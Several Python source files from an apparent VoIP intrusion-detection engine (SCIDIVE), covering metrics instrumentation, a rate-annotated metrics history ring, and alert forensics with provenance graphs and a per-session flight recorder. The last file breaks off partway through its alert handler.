    def __init__(
        self,
        instr: EngineInstrumentation,
        sample_every: int = 8,
        summary_every: int = 4,
    ) -> None:
        self.instr = instr
        self.tracer = instr.tracer
        self.sample_every = max(1, sample_every)
        self._c_frames = instr.frame_counter_child()
        self._h_distill = instr.stage_child("distill")
        self._h_state = instr.stage_child("state")
        self._h_trail = instr.stage_child("trail")
        self._h_generate = instr.stage_child("generate")
        self._h_match = instr.stage_child("match")
        # Quantile-sketch children; all None when summaries are off, and
        # every observe below hides behind an ``is not None`` guard.
        self._s_frame = instr.frame_summary_child()
        self._s_distill = instr.stage_summary_child("distill")
        self._s_generate = instr.stage_summary_child("generate")
        self._s_match = instr.stage_summary_child("match")
        self._s_housekeep = instr.stage_summary_child("housekeep")
        self._module_cache: dict[Any, Any] = {}  # Protocol -> summary child
        # Latency sketches observe every Nth frame (coherently: a
        # sampled frame contributes frame AND distill AND generate AND
        # match, so quantiles stay unbiased systematic samples).  The
        # latency budget still sees every frame — overload detection
        # keeps full tail fidelity; only the *reported* quantiles are
        # estimated from the sample.
        self.summary_every = max(1, summary_every)
        self._summary_tick = self.summary_every - 1  # sample the first frame
        self._summary_on = False
        self._gen_secs: dict[str, float] = {}
        self._fp_counts: dict[Any, int] = {}  # Protocol -> footprints
        self._sample_tick = self.sample_every - 1  # sample the first footprint

    def frame_distilled(self, frame_no, sim_time, footprint, seconds) -> None:
        self._c_frames.inc()
        self._h_distill.observe(seconds)
        if self._s_distill is not None:
            tick = self._summary_tick + 1
            if tick >= self.summary_every:
                self._summary_tick = 0
                self._summary_on = True
                self._s_distill.observe(seconds)
            else:
                self._summary_tick = tick
                self._summary_on = False
        # The gate check lives at the call site: a gated tracer with no
        # sampled context skips the call itself, so unsampled cluster
        # frames never pay the kwargs packing for these per-frame spans.
        tracer = self.tracer
        if tracer is not None and (tracer.context or not tracer.gate):
            tracer.record(
                "distill", seconds, frame=frame_no, sim_time=sim_time,
                protocol=footprint.protocol.value if footprint is not None else "none",
            )

    def housekeeping_timed(self, reclaimed, seconds, frame_no, sim_time) -> None:
        self.instr.stage("housekeep", seconds, frame=frame_no,
                         sim_time=sim_time, reclaimed=reclaimed)
        if self._s_housekeep is not None:
            self._s_housekeep.observe(seconds)

    def frame_done(self, seconds, frame_no, sim_time) -> None:
        if self._summary_on and self._s_frame is not None:
            self._s_frame.observe(seconds)

    def state_updated(self, seconds, frame_no, sim_time) -> None:
        self._h_state.observe(seconds)
        tracer = self.tracer
        if tracer is not None and (tracer.context or not tracer.gate):
            tracer.record("state", seconds, frame=frame_no, sim_time=sim_time)

    def trail_pushed(self, seconds, frame_no, sim_time) -> None:
        self._h_trail.observe(seconds)
        tracer = self.tracer
        if tracer is not None and (tracer.context or not tracer.gate):
            tracer.record("trail", seconds, frame=frame_no, sim_time=sim_time)

    def sample_generators(self) -> bool:
        tick = self._sample_tick + 1
        if tick >= self.sample_every:
            self._sample_tick = 0
            return True
        self._sample_tick = tick
        return False

    def generator_ran(self, name, seconds) -> None:
        self._gen_secs[name] = self._gen_secs.get(name, 0.0) + seconds

    def event_seen(self, name) -> None:
        self.instr.event(name)

    def footprint_done(self, footprint, generate_seconds, match_seconds,
                       events, alerts, frame_no, sim_time) -> None:
        protocol = footprint.protocol
        self.instr.footprint(protocol.value)
        self._fp_counts[protocol] = self._fp_counts.get(protocol, 0) + 1
        self._h_generate.observe(generate_seconds)
        self._h_match.observe(match_seconds)
        if self._summary_on and self._s_generate is not None:
            self._s_generate.observe(generate_seconds)
            self._s_match.observe(match_seconds)
            child = self._module_cache.get(protocol)
            if child is None:
                child = self.instr.module_child(protocol.value)
                self._module_cache[protocol] = child
            child.observe(generate_seconds + match_seconds)
        tracer = self.tracer
        if tracer is not None and (tracer.context or not tracer.gate):
            tracer.record("generate", generate_seconds, frame=frame_no,
                          sim_time=sim_time, events=events)
            tracer.record("match", match_seconds, frame=frame_no,
                          sim_time=sim_time, events=events, alerts=alerts)

    def injected(self, event_name) -> None:
        self.instr.injected_event()
        self.instr.event(event_name)

    def housekeeping_done(self, reclaimed) -> None:
        self.instr.housekeeping(reclaimed)

    def snapshot(self, engine) -> None:
        self._flush(engine)
        self.instr.update_gauges(engine)

    def _flush(self, engine) -> None:
        """Merge the sampled tallies into the registry.

        Sampled seconds scale by ``sample_every`` to estimate totals;
        call counts are exact: each protocol's footprint count applies
        to precisely the generators in that protocol's dispatch table.
        Every generator gets an entry (0 when it saw nothing) so the
        metric family always carries the full generator roster.
        """
        if not self._fp_counts and not self._gen_secs:
            return
        scale = float(self.sample_every)
        seconds = {g.name: 0.0 for g in engine.generators}
        for name, total in self._gen_secs.items():
            seconds[name] = seconds.get(name, 0.0) + total * scale
        calls = {g.name: 0 for g in engine.generators}
        for protocol, count in self._fp_counts.items():
            for generator in engine.generators_for(protocol):
                calls[generator.name] = calls.get(generator.name, 0) + count
        self.instr.merge_generator_seconds(seconds, calls)
        self._gen_secs.clear()
        self._fp_counts.clear()
