"""Instrumentation bindings between the engine and the metrics registry.

:class:`EngineInstrumentation` pre-resolves every metric handle the
engine's hot path touches, so instrumented processing costs one ``is
not None`` branch plus a handful of dict lookups per frame — and
nothing at all when observability is off (the engine holds ``None``).

Metric families (all prefixed ``scidive_``, all labelled by ``engine``
so cooperating detectors share a registry without colliding):

* ``scidive_frames_total`` — raw frames ingested.
* ``scidive_footprints_total{protocol}`` — footprints by protocol.
* ``scidive_events_total{event}`` — generator events by name.
* ``scidive_alerts_total{rule_id,severity}`` — alerts raised.
* ``scidive_injected_events_total`` — cooperative-detection injections.
* ``scidive_stage_seconds{stage}`` — per-stage latency histogram.
* ``scidive_generator_seconds_total`` / ``scidive_generator_calls_total``
  — cumulative per-generator wall time and fan-out counts.
* ``scidive_housekeeping_runs_total`` / ``…_reclaimed_trails_total``.
* ``scidive_trails`` / ``_sessions`` / ``_sip_dialogs`` /
  ``_registration_sessions`` — state-size gauges.
* ``scidive_distiller_*`` — distiller counter snapshot gauges.
"""

from __future__ import annotations

from typing import Any

from repro.obs.registry import DEFAULT_BUCKETS, MetricsRegistry
from repro.obs.tracing import Tracer

# Stage histograms cover sub-microsecond decode steps up to 100 ms.
STAGE_BUCKETS = tuple(b for b in DEFAULT_BUCKETS if b <= 0.1)


class EngineInstrumentation:
    """Per-engine metric handles over a shared registry."""

    __slots__ = (
        "registry", "tracer", "engine",
        "_frames", "_footprints", "_events", "_alerts", "_injected",
        "_stage", "_generator", "_generator_calls",
        "_housekeeping_runs", "_reclaimed",
        "_trails", "_sessions", "_dialogs", "_registrations", "_distiller",
        "_footprint_children", "_event_children", "_stage_children",
        "_gen_seconds_acc", "_gen_calls_acc",
    )

    def __init__(
        self,
        registry: MetricsRegistry,
        engine: str = "scidive",
        tracer: Tracer | None = None,
    ) -> None:
        self.registry = registry
        self.tracer = tracer
        self.engine = engine
        label = {"engine": engine}
        self._frames = registry.counter(
            "scidive_frames_total", "Raw frames ingested", ("engine",)
        ).labels(**label)
        self._footprints = registry.counter(
            "scidive_footprints_total", "Footprints distilled, by protocol",
            ("engine", "protocol"),
        )
        self._events = registry.counter(
            "scidive_events_total", "Generator events, by event name",
            ("engine", "event"),
        )
        self._alerts = registry.counter(
            "scidive_alerts_total", "Alerts raised, by rule and severity",
            ("engine", "rule_id", "severity"),
        )
        self._injected = registry.counter(
            "scidive_injected_events_total",
            "Events injected by cooperating detectors", ("engine",),
        ).labels(**label)
        self._stage = registry.histogram(
            "scidive_stage_seconds", "Wall-clock seconds per pipeline stage",
            ("engine", "stage"), buckets=STAGE_BUCKETS,
        )
        self._generator = registry.counter(
            "scidive_generator_seconds_total",
            "Cumulative wall-clock seconds per event generator",
            ("engine", "generator"),
        )
        self._generator_calls = registry.counter(
            "scidive_generator_calls_total",
            "Footprints fanned out per event generator",
            ("engine", "generator"),
        )
        self._housekeeping_runs = registry.counter(
            "scidive_housekeeping_runs_total", "Housekeeping sweeps", ("engine",)
        ).labels(**label)
        self._reclaimed = registry.counter(
            "scidive_housekeeping_reclaimed_trails_total",
            "Trails reclaimed by housekeeping", ("engine",),
        ).labels(**label)
        self._trails = registry.gauge(
            "scidive_trails", "Live trails", ("engine",)
        ).labels(**label)
        self._sessions = registry.gauge(
            "scidive_sessions", "Live cross-protocol sessions", ("engine",)
        ).labels(**label)
        self._dialogs = registry.gauge(
            "scidive_sip_dialogs", "Tracked SIP dialogs", ("engine",)
        ).labels(**label)
        self._registrations = registry.gauge(
            "scidive_registration_sessions", "Tracked REGISTER sessions", ("engine",)
        ).labels(**label)
        self._distiller = registry.gauge(
            "scidive_distiller_frames", "Distiller counter snapshot",
            ("engine", "counter"),
        )
        # Hot-path label children resolved once per distinct value, then
        # hit these dicts — keeps per-frame cost to dict lookups.
        self._footprint_children: dict[str, Any] = {}
        self._event_children: dict[str, Any] = {}
        self._stage_children: dict[str, Any] = {}
        # Per-generator time/call tallies accumulate in plain dicts (a
        # float add per generator per frame) and flush to the registry
        # in update_gauges — a histogram observe per generator per frame
        # was the single largest instrumentation cost.
        self._gen_seconds_acc: dict[str, float] = {}
        self._gen_calls_acc: dict[str, int] = {}

    # -- hot-path hooks (called per frame) ----------------------------------

    def frame(self) -> None:
        self._frames.inc()

    def footprint(self, protocol: str) -> None:
        child = self._footprint_children.get(protocol)
        if child is None:
            child = self._footprints.labels(engine=self.engine, protocol=protocol)
            self._footprint_children[protocol] = child
        child.inc()

    def event(self, name: str) -> None:
        child = self._event_children.get(name)
        if child is None:
            child = self._events.labels(engine=self.engine, event=name)
            self._event_children[name] = child
        child.inc()

    def alert(self, alert: Any) -> None:
        self._alerts.labels(
            engine=self.engine,
            rule_id=alert.rule_id,
            severity=alert.severity.name,
        ).inc()

    def injected_event(self) -> None:
        self._injected.inc()

    def stage(self, stage: str, seconds: float, frame: int = 0,
              sim_time: float = 0.0, **meta: Any) -> None:
        """Record one stage execution: histogram sample + optional span."""
        self.stage_child(stage).observe(seconds)
        if self.tracer is not None:
            self.tracer.record(stage, seconds, frame=frame,
                               sim_time=sim_time, **meta)

    def stage_child(self, stage: str):
        """The raw histogram child for one stage — the engine pre-resolves
        these so its hot path observes without any method indirection."""
        child = self._stage_children.get(stage)
        if child is None:
            child = self._stage.labels(engine=self.engine, stage=stage)
            self._stage_children[stage] = child
        return child

    def frame_counter_child(self):
        return self._frames

    def merge_generator_seconds(self, seconds: dict[str, float],
                                calls: dict[str, int]) -> None:
        """Absorb the engine's inline per-generator tallies."""
        for generator, total in seconds.items():
            self._gen_seconds_acc[generator] = (
                self._gen_seconds_acc.get(generator, 0.0) + total
            )
        for generator, count in calls.items():
            self._gen_calls_acc[generator] = (
                self._gen_calls_acc.get(generator, 0) + count
            )

    def generator_time(self, generator: str, seconds: float) -> None:
        self._gen_seconds_acc[generator] = (
            self._gen_seconds_acc.get(generator, 0.0) + seconds
        )
        self._gen_calls_acc[generator] = self._gen_calls_acc.get(generator, 0) + 1

    # -- housekeeping / gauges (called off the per-frame path) ----------------

    def housekeeping(self, reclaimed: int) -> None:
        self._housekeeping_runs.inc()
        if reclaimed:
            self._reclaimed.inc(reclaimed)

    def update_gauges(self, engine: Any) -> None:
        """Snapshot state sizes from a :class:`ScidiveEngine` and flush
        the per-generator time tallies into the registry."""
        self._trails.set(engine.trails.trail_count)
        self._sessions.set(engine.trails.session_count)
        self._dialogs.set(engine.sip_state.call_count)
        self._registrations.set(engine.registrations.session_count)
        for counter, value in engine.distiller.stats.as_dict().items():
            self._distiller.labels(engine=self.engine, counter=counter).set(value)
        for generator, seconds in self._gen_seconds_acc.items():
            self._generator.labels(engine=self.engine, generator=generator).inc(seconds)
        self._gen_seconds_acc.clear()
        for generator, calls in self._gen_calls_acc.items():
            self._generator_calls.labels(
                engine=self.engine, generator=generator
            ).inc(calls)
        self._gen_calls_acc.clear()
