"""Metrics history: a ring of periodic snapshots with derived rates.

``/metrics`` answers "how much, ever"; operators debugging a live run
need "how fast, *lately*".  :class:`MetricsHistory` keeps a bounded ring
of cumulative-counter snapshots (frames, events, alerts, shed frames)
taken on a fixed cadence and derives per-second rates two ways:

* **instantaneous** — the delta between the two most recent snapshots,
  attached to every snapshot as it is recorded;
* **sliding-window** — the delta across however much of the ring falls
  inside a caller-chosen window (:meth:`window_rates`), which is what
  ``repro top`` displays so one noisy sample cannot whipsaw the panel.

The ring is append-only under a lock and snapshots are plain dicts, so
``/metrics/history`` serves JSON straight out of :meth:`as_dict` and a
poller can diff consecutive fetches without any schema negotiation.
Counters are cumulative, so a snapshot missed by a slow poller loses
resolution, never data.
"""

from __future__ import annotations

import threading
from collections import deque
from typing import Any

# Totals every snapshot carries.  ``shed`` is the cluster's dropped-frame
# count (0 for a single engine, which never sheds).
COUNTER_FIELDS = ("frames", "events", "alerts", "shed")

DEFAULT_CAPACITY = 300
DEFAULT_INTERVAL = 1.0


class MetricsHistory:
    """Bounded ring of cumulative-counter snapshots, rate-annotated."""

    def __init__(self, capacity: int = DEFAULT_CAPACITY) -> None:
        if capacity < 2:
            raise ValueError(f"capacity must be >= 2 (got {capacity})")
        self.capacity = capacity
        self._ring: deque[dict[str, Any]] = deque(maxlen=capacity)
        self._lock = threading.Lock()
        self.samples_taken = 0

    def record(
        self,
        now: float,
        totals: dict[str, float],
        extra: dict[str, Any] | None = None,
    ) -> dict[str, Any]:
        """Append one snapshot; returns it with instantaneous rates.

        ``now`` is wall-clock seconds (time.time-like, monotonic across
        snapshots); ``totals`` carries cumulative counters — missing
        :data:`COUNTER_FIELDS` default to 0, unknown keys are kept.
        ``extra`` is attached verbatim (quantiles, burn rate, queue
        depths) and never participates in rate math.
        """
        snap: dict[str, Any] = {
            "t": now,
            "totals": {
                field: totals.get(field, 0) for field in COUNTER_FIELDS
            },
        }
        for key, value in totals.items():
            if key not in COUNTER_FIELDS:
                snap["totals"][key] = value
        if extra:
            snap.update(extra)
        with self._lock:
            prev = self._ring[-1] if self._ring else None
            snap["rates"] = _rates_between(prev, snap)
            self._ring.append(snap)
            self.samples_taken += 1
        return snap

    # -- queries --------------------------------------------------------------

    def snapshots(self, limit: int | None = None) -> list[dict[str, Any]]:
        """Most recent snapshots, oldest first (all when limit is None)."""
        with self._lock:
            items = list(self._ring)
        if limit is not None and limit >= 0:
            items = items[-limit:]
        return items

    def last(self) -> dict[str, Any] | None:
        with self._lock:
            return self._ring[-1] if self._ring else None

    def window_rates(self, window_seconds: float) -> dict[str, float]:
        """Per-second rates over the trailing ``window_seconds``.

        Uses the oldest snapshot still inside the window as the baseline;
        with fewer than two snapshots (or a zero-length span) all rates
        are 0.0 — a cold dashboard shows quiet, not an error.
        """
        with self._lock:
            items = list(self._ring)
        if len(items) < 2:
            return {f"{field}_per_s": 0.0 for field in COUNTER_FIELDS}
        newest = items[-1]
        horizon = newest["t"] - window_seconds
        baseline = items[0]
        for snap in items:
            if snap["t"] >= horizon:
                baseline = snap
                break
        return _rates_between(baseline, newest)

    def as_dict(self, limit: int | None = None) -> dict[str, Any]:
        """The ``/metrics/history`` payload."""
        samples = self.snapshots(limit)
        return {
            "capacity": self.capacity,
            "samples_taken": self.samples_taken,
            "returned": len(samples),
            "counter_fields": list(COUNTER_FIELDS),
            "samples": samples,
        }

    def clear(self) -> None:
        with self._lock:
            self._ring.clear()
            self.samples_taken = 0

    def __len__(self) -> int:
        with self._lock:
            return len(self._ring)


def _rates_between(
    prev: dict[str, Any] | None, snap: dict[str, Any]
) -> dict[str, float]:
    """Per-second counter deltas from ``prev`` to ``snap`` (0.0 when
    there is no baseline or no elapsed time)."""
    if prev is None:
        return {f"{field}_per_s": 0.0 for field in COUNTER_FIELDS}
    dt = snap["t"] - prev["t"]
    if dt <= 0:
        return {f"{field}_per_s": 0.0 for field in COUNTER_FIELDS}
    out: dict[str, float] = {}
    for field in COUNTER_FIELDS:
        delta = snap["totals"].get(field, 0) - prev["totals"].get(field, 0)
        out[f"{field}_per_s"] = round(max(delta, 0) / dt, 4)
    return out
