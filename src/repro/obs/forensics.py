"""Alert forensics: provenance graphs, flight recorder, evidence bundles.

SCIDIVE's value is *contextual* verdicts — but a bare alert line cannot
answer the operator's first three questions: which frames caused this,
how long did detection take, and what else happened in that session?
This module makes every alert explainable:

* **Provenance**: the causal chain already exists structurally
  (``Alert.events`` → ``Event.evidence`` footprints); the
  :class:`ForensicsRecorder` closes the last gap — footprint back to the
  raw captured frame — and snapshots the whole chain into a
  :class:`ProvenanceGraph` attached to the alert, with sim-clock
  timestamps at every node.  Detection delay per alert is then a
  *derived* quantity (alert time minus the earliest evidence frame) and
  is bucketed into the per-rule ``scidive_detection_delay_seconds``
  histogram when a metrics registry is attached.

* **Flight recorder**: a bounded per-session ring buffer of recent raw
  frames + footprints.  O(1) memory per session (``ring_capacity``
  records), bounded session count (LRU eviction past ``max_sessions``),
  sessions evicted on idle by the engine's housekeeping sweep.

* **Evidence bundles**: when a rule fires and a ``bundle_dir`` is
  configured, the provenance chain plus the session's ring snapshot are
  written as ``<alert-id>.json`` (graph + timeline metadata) and
  ``<alert-id>.pcap`` (the raw frames, replayable by ``repro replay``).
  ``repro explain <alert-id> --bundle-dir ...`` renders a bundle with
  no access to the original run.

The recorder is default-on (it is how every alert gains provenance) but
deliberately cheap: one ring append + two dict stores per frame, no
timers, no serialisation until a rule actually fires.
"""

from __future__ import annotations

import json
import time as _time
from collections import OrderedDict, deque
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any

from repro.core.footprint import (
    AccountingFootprint,
    AnyFootprint,
    H225Footprint,
    MalformedFootprint,
    RtcpFootprint,
    RtpFootprint,
    SipFootprint,
)

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.alerts import Alert
    from repro.obs.registry import Histogram, MetricsRegistry

BUNDLE_FORMAT = 1

# The quarantine ring's session key and the bundle id it is written
# under: ``repro explain malformed --bundle-dir ...``.
MALFORMED_SESSION_KEY = ("malformed",)
MALFORMED_BUNDLE_ID = "malformed"

DEFAULT_RING_CAPACITY = 128
DEFAULT_MAX_SESSIONS = 4096

# Detection delays are sim-clock seconds (paper §4.3: dominated by the
# RTP inter-packet gap and link jitter), not hot-path latencies — so the
# buckets run milliseconds to a minute, unlike the µs-scale stage
# histograms.
DELAY_BUCKETS = (
    0.001, 0.0025, 0.005,
    0.01, 0.025, 0.05,
    0.1, 0.25, 0.5,
    1.0, 2.5, 5.0,
    10.0, 30.0, 60.0,
)


# ---------------------------------------------------------------------------
# Process-wide default configuration
# ---------------------------------------------------------------------------


@dataclass
class ForensicsConfig:
    """Recorder defaults for engines built without explicit forensics
    arguments (the experiment harness, cluster workers, the CLI)."""

    enabled: bool = True
    ring_capacity: int = DEFAULT_RING_CAPACITY
    max_sessions: int = DEFAULT_MAX_SESSIONS
    bundle_dir: str | None = None


_default_config = ForensicsConfig()


def default_forensics_config() -> ForensicsConfig:
    return _default_config


def configure_forensics(**overrides: Any) -> ForensicsConfig:
    """Update the process-wide defaults (e.g. ``bundle_dir`` from the
    CLI before the harness builds its engines).  Returns the config."""
    for name, value in overrides.items():
        if not hasattr(_default_config, name):
            raise TypeError(f"unknown forensics option {name!r}")
        setattr(_default_config, name, value)
    return _default_config


# ---------------------------------------------------------------------------
# Footprint description (human-facing one-liners)
# ---------------------------------------------------------------------------


def describe_footprint(fp: AnyFootprint) -> str:
    """One line an analyst can read in a graph node or timeline row."""
    if isinstance(fp, SipFootprint):
        what = (
            f"request {fp.method}" if fp.is_request
            else f"response {fp.status} ({fp.method})"
        )
        return f"SIP {what} call={fp.call_id() or '-'} {fp.src}->{fp.dst}"
    if isinstance(fp, RtpFootprint):
        return (
            f"RTP ssrc=0x{fp.ssrc:08x} seq={fp.sequence} "
            f"pt={fp.payload_type} {fp.src}->{fp.dst}"
        )
    if isinstance(fp, RtcpFootprint):
        bye = " BYE" if fp.has_bye else ""
        return f"RTCP x{len(fp.packets)}{bye} {fp.src}->{fp.dst}"
    if isinstance(fp, AccountingFootprint):
        return f"ACCT {fp.action} call={fp.call_id or '-'} {fp.from_aor}->{fp.to_aor}"
    if isinstance(fp, H225Footprint):
        return f"H225 {fp.message_type} crv={fp.call_reference} {fp.src}->{fp.dst}"
    if isinstance(fp, MalformedFootprint):
        return f"MALFORMED {fp.claimed_protocol.value}: {fp.reason} {fp.src}->{fp.dst}"
    return f"{fp.protocol.value} {fp.src}->{fp.dst}"  # pragma: no cover


# ---------------------------------------------------------------------------
# Provenance graph
# ---------------------------------------------------------------------------


@dataclass
class ProvenanceGraph:
    """The causal chain behind one alert: frames → footprints → events
    → alert, as plain JSON-safe node/edge lists.

    Node ids are ``frame:<record-id>``, ``footprint:<n>``,
    ``event:<n>`` and ``alert:<alert-id>``; edges point in causal
    direction.  Deliberately a plain (non-slots) dataclass of
    primitives: it crosses process boundaries inside pickled alerts and
    serialises into evidence bundles verbatim.
    """

    alert_id: str = ""
    rule_id: str = ""
    alert_time: float = 0.0
    frames: list[dict] = field(default_factory=list)
    footprints: list[dict] = field(default_factory=list)
    events: list[dict] = field(default_factory=list)
    edges: list[list[str]] = field(default_factory=list)

    def __bool__(self) -> bool:
        return bool(self.footprints or self.events or self.frames)

    @property
    def earliest_frame_time(self) -> float | None:
        """Sim-clock timestamp of the oldest evidence frame (the anchor
        for derived detection delay)."""
        if not self.frames:
            return None
        return min(f["timestamp"] for f in self.frames)

    @property
    def detection_delay(self) -> float | None:
        t0 = self.earliest_frame_time
        return self.alert_time - t0 if t0 is not None else None

    def summary(self) -> dict[str, Any]:
        """Counts-only view, shared by ``Alert.to_dict`` and ``/alerts``."""
        out: dict[str, Any] = {
            "frames": len(self.frames),
            "footprints": len(self.footprints),
            "events": len(self.events),
        }
        delay = self.detection_delay
        if delay is not None:
            out["detection_delay"] = round(delay, 6)
        return out

    def to_dict(self) -> dict[str, Any]:
        return {
            "alert_id": self.alert_id,
            "rule_id": self.rule_id,
            "alert_time": round(self.alert_time, 6),
            "frames": self.frames,
            "footprints": self.footprints,
            "events": self.events,
            "edges": self.edges,
        }

    @classmethod
    def from_dict(cls, payload: dict) -> "ProvenanceGraph":
        return cls(
            alert_id=payload.get("alert_id", ""),
            rule_id=payload.get("rule_id", ""),
            alert_time=float(payload.get("alert_time", 0.0)),
            frames=list(payload.get("frames", [])),
            footprints=list(payload.get("footprints", [])),
            events=list(payload.get("events", [])),
            edges=[list(e) for e in payload.get("edges", [])],
        )

    def render(self) -> str:
        """Indented causal tree, leaves (frames) outermost."""
        by_node: dict[str, dict] = {}
        for entry in self.frames + self.footprints + self.events:
            by_node[entry["node"]] = entry
        children: dict[str, list[str]] = {}
        for src, dst in self.edges:
            children.setdefault(dst, []).append(src)
        lines = [f"alert:{self.alert_id} {self.rule_id} t={self.alert_time:.4f}"]

        def walk(node: str, depth: int) -> None:
            for cause in children.get(node, []):
                entry = by_node.get(cause, {})
                when = entry.get("timestamp", entry.get("time"))
                stamp = f" t={when:.4f}" if isinstance(when, (int, float)) else ""
                label = entry.get("summary") or entry.get("name") or cause
                lines.append("  " * (depth + 1) + f"<- {cause}{stamp} {label}")
                walk(cause, depth + 1)

        walk(f"alert:{self.alert_id}", 0)
        return "\n".join(lines)


# ---------------------------------------------------------------------------
# Flight recorder
# ---------------------------------------------------------------------------


@dataclass(slots=True)
class FrameRecord:
    """One captured frame held by the flight recorder.

    Holds a strong reference to the footprint so the ``id()``-keyed
    identity map can never dangle: the map entry is removed exactly when
    the record is evicted from its ring.
    """

    record_id: int
    frame_no: int
    timestamp: float
    frame: bytes
    footprint: AnyFootprint


class _SessionRing:
    __slots__ = ("records", "last_seen")

    def __init__(self) -> None:
        self.records: deque[FrameRecord] = deque()
        self.last_seen = 0.0


def _session_key(fp: AnyFootprint) -> tuple:
    """Mirror of the trail/shard session keying: signalling by call id,
    media by destination flow endpoint, everything else pooled.

    Malformed footprints get their own quarantine ring: hostile input
    the decoders rejected is exactly what an operator wants to inspect
    (``repro explain malformed``), and pooling it with benign misc
    traffic would let a malformed flood evict legitimate evidence."""
    if isinstance(fp, MalformedFootprint):
        return ("malformed",)
    if isinstance(fp, SipFootprint):
        call_id = fp.call_id()
        return ("call", call_id) if call_id else ("sip", 0)
    if isinstance(fp, (RtpFootprint, RtcpFootprint)):
        return ("flow", fp.dst.ip.packed, fp.dst.port)
    if isinstance(fp, AccountingFootprint):
        return ("call", fp.call_id) if fp.call_id else ("acct", 0)
    if isinstance(fp, H225Footprint):
        return ("h225", fp.call_reference)
    return ("misc", 0)


class ForensicsRecorder:
    """Per-engine flight recorder + provenance builder.

    Wiring (done by :class:`~repro.core.engine.ScidiveEngine`):
    ``record_frame`` is called once per distilled frame,
    ``on_alert`` subscribes to the engine's :class:`AlertLog`, and
    ``expire_idle`` rides the housekeeping sweep.
    """

    def __init__(
        self,
        engine_name: str = "scidive",
        ring_capacity: int = DEFAULT_RING_CAPACITY,
        max_sessions: int = DEFAULT_MAX_SESSIONS,
        bundle_dir: str | Path | None = None,
        registry: "MetricsRegistry | None" = None,
    ) -> None:
        if ring_capacity < 1:
            raise ValueError(f"ring_capacity must be >= 1 (got {ring_capacity})")
        if max_sessions < 1:
            raise ValueError(f"max_sessions must be >= 1 (got {max_sessions})")
        self.engine_name = engine_name
        self.ring_capacity = ring_capacity
        self.max_sessions = max_sessions
        self.bundle_dir = str(bundle_dir) if bundle_dir is not None else None
        # LRU by last touch: move_to_end on every record keeps the
        # coldest session first, so both capacity eviction and idle
        # expiry pop from the front in O(1).
        self._sessions: OrderedDict[tuple, _SessionRing] = OrderedDict()
        self._by_fp: dict[int, FrameRecord] = {}
        self._rec_seq = 0
        self._alert_seq = 0
        self.frames_recorded = 0
        self.sessions_evicted = 0
        self.bundles_written = 0
        self.last_frame_monotonic: float | None = None
        self._delay_hist: "Histogram | None" = None
        if registry is not None:
            self._delay_hist = registry.histogram(
                "scidive_detection_delay_seconds",
                "Sim-clock delay from the earliest evidence frame to the alert",
                ("engine", "rule_id"),
                buckets=DELAY_BUCKETS,
            )

    @classmethod
    def from_config(
        cls,
        engine_name: str,
        registry: "MetricsRegistry | None" = None,
        config: ForensicsConfig | None = None,
    ) -> "ForensicsRecorder | None":
        """Build a recorder from the process-wide defaults (None = off)."""
        config = config if config is not None else _default_config
        if not config.enabled:
            return None
        return cls(
            engine_name=engine_name,
            ring_capacity=config.ring_capacity,
            max_sessions=config.max_sessions,
            bundle_dir=config.bundle_dir,
            registry=registry,
        )

    # -- recording (hot path) --------------------------------------------------

    def record_frame(
        self, frame_no: int, frame: bytes, timestamp: float, footprint: AnyFootprint
    ) -> None:
        """Append one frame to its session ring (called once per frame)."""
        self.last_frame_monotonic = _time.monotonic()
        self.frames_recorded += 1
        sessions = self._sessions
        key = _session_key(footprint)
        ring = sessions.get(key)
        if ring is None:
            if len(sessions) >= self.max_sessions:
                old_key, old_ring = next(iter(sessions.items()))
                self._drop_session(old_key, old_ring)
                self.sessions_evicted += 1
            ring = _SessionRing()
            sessions[key] = ring
        else:
            sessions.move_to_end(key)
        ring.last_seen = timestamp
        self._rec_seq += 1
        record = FrameRecord(self._rec_seq, frame_no, timestamp, frame, footprint)
        records = ring.records
        records.append(record)
        self._by_fp[id(footprint)] = record
        if len(records) > self.ring_capacity:
            evicted = records.popleft()
            self._by_fp.pop(id(evicted.footprint), None)

    def _drop_session(self, key: tuple, ring: _SessionRing) -> None:
        pop = self._by_fp.pop
        for record in ring.records:
            pop(id(record.footprint), None)
        del self._sessions[key]

    def expire_idle(self, now: float, timeout: float) -> int:
        """Evict sessions idle past ``timeout`` (housekeeping sweep)."""
        dropped = 0
        horizon = now - timeout
        while self._sessions:
            key, ring = next(iter(self._sessions.items()))
            if ring.last_seen >= horizon:
                break
            self._drop_session(key, ring)
            dropped += 1
        self.sessions_evicted += dropped
        return dropped

    # -- the malformed quarantine ---------------------------------------------

    def malformed_records(self) -> list:
        """The quarantine ring: recent frames the decoders rejected."""
        ring = self._sessions.get(MALFORMED_SESSION_KEY)
        return list(ring.records) if ring is not None else []

    def malformed_state(self) -> list:
        """The quarantine ring as a picklable snapshot (checkpointing).

        Only this ring crosses checkpoints: the per-session evidence
        rings are archaeology for alerts that already carry their own
        provenance frames, but the quarantine's diagnoses of hostile
        input would otherwise vanish on every worker respawn."""
        return self.malformed_records()

    def load_malformed_state(self, records: list) -> None:
        """Rebuild the quarantine ring from a checkpoint snapshot."""
        if not records:
            return
        ring = self._sessions.get(MALFORMED_SESSION_KEY)
        if ring is None:
            ring = _SessionRing()
            self._sessions[MALFORMED_SESSION_KEY] = ring
        for record in records:
            ring.records.append(record)
            self._by_fp[id(record.footprint)] = record
            ring.last_seen = max(ring.last_seen, record.timestamp)
        while len(ring.records) > self.ring_capacity:
            evicted = ring.records.popleft()
            self._by_fp.pop(id(evicted.footprint), None)
        self._rec_seq = max(self._rec_seq, max(r.record_id for r in records))

    # -- sizes ----------------------------------------------------------------

    @property
    def session_count(self) -> int:
        return len(self._sessions)

    @property
    def record_count(self) -> int:
        return len(self._by_fp)

    def last_frame_age(self) -> float | None:
        """Wall-clock seconds since the last recorded frame."""
        if self.last_frame_monotonic is None:
            return None
        return _time.monotonic() - self.last_frame_monotonic

    # -- alert side ------------------------------------------------------------

    def on_alert(self, alert: "Alert") -> None:
        """AlertLog subscriber: attach id + provenance, observe delay,
        write the evidence bundle when configured."""
        self._alert_seq += 1
        alert_id = f"{self.engine_name}-{self._alert_seq}"
        graph, records = self._build_graph(alert, alert_id)
        object.__setattr__(alert, "alert_id", alert_id)
        object.__setattr__(alert, "provenance", graph)
        if self._delay_hist is not None:
            delay = graph.detection_delay
            if delay is not None:
                self._delay_hist.labels(
                    engine=self.engine_name, rule_id=alert.rule_id
                ).observe(max(delay, 0.0))
        if self.bundle_dir is not None:
